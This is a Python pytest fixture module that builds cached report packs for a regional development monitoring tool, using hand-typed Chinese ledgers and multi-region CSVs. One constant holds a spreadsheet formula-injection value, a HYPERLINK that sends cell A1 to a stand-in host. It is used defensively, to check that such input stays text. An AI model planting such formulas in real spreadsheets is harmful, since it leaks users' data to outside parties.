"""Report packs read by several test files (test_report_pack, test_report_ledger), each built
once per test run.

A pack is built the first time a test asks for it, by whichever pytest-xdist worker asks
first, into the run's shared cache folder (``ANALYSIS_TEST_CACHE``, tests/conftest.py); a
worker asking meanwhile waits for it (a lock per pack) and then reads the same folder. Tests
only read a pack, never change it. Packs are built without notebooks, at low resolution, with
only the figures the tests read (every figure is drawn in tests/test_figures_layout.py).
"""

from __future__ import annotations

import os
import pickle
import shutil
from pathlib import Path

import pandas as pd
import pytest

from analysis import config
from analysis.app import report
from analysis.io import dataset
from analysis.io.atomic import atomic_write, locked

#: A region named by a spreadsheet formula: it must stay text everywhere.
EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
#: A ledger an office typed by hand: task 1 completed, task 2 delayed (two units, one delayed),
#: task 7 in progress; every other task unreported.
OWN_LEDGER = """任务编号,责任单位,报告期,进展情况,状态,填报单位
1,区工信局,2020年上半年,项目已验收,已完成,区工信局
2,区科技局,2020年上半年,认定工作推迟,滞后,区科技局
2,区财政局,2020年上半年,资金已拨付,推进中,区财政局
7,区工信局,2020年上半年,正在建设,推进中,区工信局
"""
#: The Chinese pack's figures: one for each part of the docx whose figure the tests read (the
#: targets, the sectors, the comparison with Gansu and China).
ZH_FIGURES = ["scorecard", "sector_trends", "benchmark_levels"]

#: name -> the arguments of :func:`analysis.app.report.build_pack` (``data``/``ledger``: a file
#: made by :func:`_inputs`). Two packs are written without PNG (``en`` in SVG, ``own_data`` in
#: PDF): the docx still needs rasters, drawn aside or added to the pack.
SPECS: dict[str, dict] = {
    "zh": dict(lang="zh", figures_only=ZH_FIGURES),          # written over an older pack (_stale)
    "zh_again": dict(lang="zh", figures_only=ZH_FIGURES),    # the same inputs again: the same bytes
    "en": dict(lang="en", figures_only=["scorecard", "benchmark_levels"], formats=("svg",)),
    "multi": dict(lang="zh", data="three_regions.csv", figures_only=["scorecard"]),
    "own_sectors": dict(lang="zh", data="three_regions.csv", figures_only=["scorecard", "sector_trends"],
                        sectors=True),
    # (ledger_status asked for, and left out: the user gave no ledger)
    "own_data": dict(lang="zh", data="my_monitoring.csv", figures_only=["scorecard", "growth", "ledger_status"],
                     formats=("pdf",)),
    "own_ledger": dict(lang="zh", ledger="my_ledger.csv", figures_only=["ledger_status"]),
}


def _inputs(root: Path) -> None:
    """The users' own files the packs read: three regions (one named by a formula), a copy of
    the bundled data under another name, a ledger typed by hand."""
    obs = dataset.load_observations()
    other = obs.assign(region="白银区", value=(obs["value"] * 1.1).where(obs["unit"] != "%", obs["value"] * 0.9))
    multi = pd.concat([obs, other, obs.assign(region=EVIL)])[["region", "indicator_id", "year", "value", "unit"]]
    multi.to_csv(root / "three_regions.csv", index=False)
    shutil.copyfile(config.monitoring_path(), root / "my_monitoring.csv")  # the same numbers, the user's file
    (root / "my_ledger.csv").write_text(OWN_LEDGER, encoding="utf-8")


def _stale(folder: Path) -> None:
    """An older pack in the folder: other data, a notebooks page, an old figure, a user's own file."""
    (folder / "reports").mkdir(parents=True, exist_ok=True)
    (folder / "figures").mkdir(parents=True, exist_ok=True)
    (folder / "reports" / "notebooks.html").write_text("OLD", encoding="utf-8")
    (folder / "reports" / "report.html").write_text("OLD", encoding="utf-8")
    (folder / "figures" / "99_old_figure_zh.png").write_bytes(b"OLD")
    (folder / "reports" / "my_notes.txt").write_text("mine", encoding="utf-8")


class Packs:
    """The shared packs: :meth:`dir` (the pack's folder), :meth:`file` (a file of its reports
    folder), :meth:`result` (what ``build_pack`` returned); each builds the pack if no worker has."""

    def __init__(self, root: Path):
        self.root = root

    def result(self, name: str) -> report.PackResult:
        done = self.root / f"{name}.result.pickle"
        with locked(self.root / f"{name}.build"):
            if not done.is_file():
                with locked(self.root / "inputs"):
                    if not (self.root / "my_ledger.csv").is_file():
                        _inputs(self.root)
                kw = dict(SPECS[name])
                for key in ("data", "ledger"):
                    if key in kw:
                        kw[key] = self.root / kw[key]
                if kw.pop("sectors", False):
                    kw["sectors"] = config.sector_panel_path()
                if name == "zh":
                    _stale(self.root / name)
                mp = pytest.MonkeyPatch()
                mp.setenv("ANALYSIS_PROCESSED_DIR", str(self.root / f"processed_{name}"))
                try:
                    kw.setdefault("formats", ("png",))
                    res = report.build_pack(out=self.root / name, dpi=40, notebooks=False, progress=False, **kw)
                finally:
                    mp.undo()
                with atomic_write(done, binary=True) as fh:
                    pickle.dump(res, fh)
        return pickle.loads(done.read_bytes())

    def dir(self, name: str) -> Path:
        self.result(name)
        return self.root / name

    def file(self, name: str, filename: str) -> Path:
        return self.dir(name) / "reports" / filename


@pytest.fixture(scope="session")
def packs() -> Packs:
    """The shared report packs (:class:`Packs`)."""
    root = Path(os.environ["ANALYSIS_TEST_CACHE"]) / "packs"
    root.mkdir(parents=True, exist_ok=True)
    return Packs(root)
